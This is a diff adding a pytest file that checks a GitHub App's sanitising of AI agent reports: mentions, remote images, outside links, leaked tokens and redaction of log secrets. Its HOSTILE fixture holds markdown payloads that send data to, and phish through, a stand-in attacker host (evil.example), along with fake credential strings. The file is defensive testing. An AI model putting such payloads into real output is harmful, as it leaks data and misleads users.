@@ -1,0 +1,155 @@
+"""M8: what an agent reports is posted under the App's name only after it can no longer mention
+anyone, load remote images, link outside GitHub or leak a credential; log chunks lose their
+secrets before anyone sees them; a public repository's viewer links end with the run. Issue 11:
+a plan longer than GitHub allows is cut with a link to the whole text, and a retried plan step
+posts the plan once."""
+
+from __future__ import annotations
+
+import re
+
+import httpx
+import pytest
+
+from app.agents import lifecycle, runs
+from app.stream import chunks
+from tests.agents.loop import AUDIENCE
+from tests.agents.test_lifecycle import start
+from tests.harness import AGENT_WORKFLOW, drain
+from tests.webhooks import for_repo
+
+HOSTILE = (
+    "## Summary\n"
+    "Fixed. cc @octo-org/security @alice\n"
+    "![status](https://evil.example/pixel.png?issue=secret)\n"
+    '<img src="https://evil.example/x.png">\n'
+    "[Sign in to continue](https://evil.example/login) and [the PR](https://github.com/o/r/pull/1)\n"
+    "Token for later: ghs_0123456789abcdefghijKLMNOPqrstuv.wxyz_0123\n"
+    "Key: sk-ant-api03-abcdefghijklmnopqrstuvwxyz\n"
+    "```\n@in-code stays as code\n```\n"
+)
+
+
+@pytest.fixture
+def project(github, repo):
+    _, repository = repo
+    github.add_workflow(repository, "dispatch-agent.yml", AGENT_WORKFLOW)
+    github.set_permission(repository, "alice", "write")
+    return repo
+
+
+async def report(client, oidc, project, run, event):
+    token = oidc.token(
+        AUDIENCE,
+        repository=project[1]["full_name"],
+        repository_id=project[1]["id"],
+        run_id=run.workflow_run_id,
+    )
+    return await client.post(
+        f"/api/runs/{run.id}/events", json=event, headers={"authorization": f"Bearer {token}"}
+    )
+
+
+def assert_harmless(text: str, requester: str | None = None) -> None:
+    prose = re.sub(r"```.*?```", "", text, flags=re.S)
+    mentioned = set(re.findall(r"(?<![\w`])@([A-Za-z][\w/-]*)", prose))
+    assert mentioned <= ({requester} if requester else set())
+    assert "![" not in text and "<img" not in text
+    assert "](https://evil.example" not in text
+    assert "ghs_0123456789" not in text and "sk-ant-api03" not in text
+
+
+async def test_a_hostile_plan_and_summary_are_posted_harmless(
+    rt, client, oidc, github, project, deliver
+):
+    number, run = await start(github, project, deliver)
+
+    assert (await report(client, oidc, project, run, {"type": "plan", "body": HOSTILE})).is_success
+    completed = {
+        "type": "completed",
+        "outcome": "investigation_complete",
+        "summary": HOSTILE,
+        "cost_usd": 0.1,
+        "turns": 3,
+    }
+    assert (await report(client, oidc, project, run, completed)).is_success
+    await drain(rt)
+
+    comments = github.bot_comments(project[1], number)
+    plan = next(c for c in comments if "Plan from run" in c)
+    status = next(c for c in comments if f"dispatch:run:{run.id}" in c)
+    assert_harmless(plan)
+    assert_harmless(status, requester="alice")  # "requested by @alice": the one mention
+    assert "[the PR](https://github.com/o/r/pull/1)" in plan  # GitHub links stay links
+    assert "@in-code stays as code" in plan
+
+
+async def test_secrets_in_terminal_output_never_reach_viewers(rt, client, github, project, deliver):
+    _, run = await start(github, project, deliver)
+
+    await chunks.append(run.id, 1, "export GH_TOKEN=ghs_0123456789abcdefghijKLMNOP.qrs\n")
+
+    [chunk] = await chunks.since(run.id, 0)
+    assert "ghs_" not in chunk.data and "[redacted]" in chunk.data
+
+
+async def test_a_plan_longer_than_github_allows_is_cut_with_a_link_to_all_of_it(
+    rt, client, oidc, github, project, deliver
+):
+    number, run = await start(github, project, deliver)
+    body = "## Summary\n" + "\n".join(f"step {n}: " + "x" * 60 for n in range(1100))
+    assert len(body) > 70_000
+
+    await report(client, oidc, project, run, {"type": "plan", "body": body})
+    await drain(rt)
+
+    plan = next(c for c in github.bot_comments(project[1], number) if "Plan from run" in c)
+    assert len(plan) <= 65_536
+    link = re.search(r"\[read all of it\]\((http://dispatch\.test[^)]+)\)", plan).group(1)
+    local = link.replace("http://dispatch.test", str(client.base_url))
+    async with httpx.AsyncClient() as http:
+        whole = await http.get(local)
+    assert whole.status_code == 200 and whole.text == body
+    assert whole.headers["content-type"].startswith("text/plain")
+
+
+async def test_a_retried_plan_step_posts_the_plan_once(rt, client, oidc, github, project, deliver):
+    number, run = await start(github, project, deliver)
+    await report(client, oidc, project, run, {"type": "plan", "body": "## Summary\nDo it."})
+    await drain(rt)
+
+    # The effects job runs again (a worker died after posting, before finishing).
+    await lifecycle.effects(rt, {"run": run.id, "event": "plan", "plan": "## Summary\nDo it."})
+
+    plans = [c for c in github.bot_comments(project[1], number) if "Plan from run" in c]
+    assert len(plans) == 1
+
+
+async def test_a_public_repositorys_viewer_link_ends_with_the_run(
+    rt, client, oidc, github, project, deliver
+):
+    installation, repository = project
+    # The App learns of the repository (public) through its installation event.
+    payload = for_repo("installation_repositories/added", installation, repository)
+    payload["repositories_added"] = [
+        {"id": repository["id"], "full_name": repository["full_name"], "private": False}
+    ]
+    await deliver("installation_repositories", payload)
+    number, run = await start(github, project, deliver)
+    status = next(c for c in github.bot_comments(repository, number) if f"run:{run.id}" in c)
+    link = re.search(r"\[watch the stream\]\(http://dispatch\.test([^)]+)\)", status).group(1)
+    assert (await client.get(link)).status_code == 200
+
+    await report(
+        client,
+        oidc,
+        project,
+        run,
+        {"type": "completed", "outcome": "failed", "summary": "x", "cost_usd": 0, "turns": 1},
+    )
+    await drain(rt)
+
+    assert (await client.get(link)).status_code == 404
+    assert (await runs.get(run.id)).viewer_key is None
+    status = next(c for c in github.bot_comments(repository, number) if f"run:{run.id}" in c)
+    assert "watch the stream" not in status
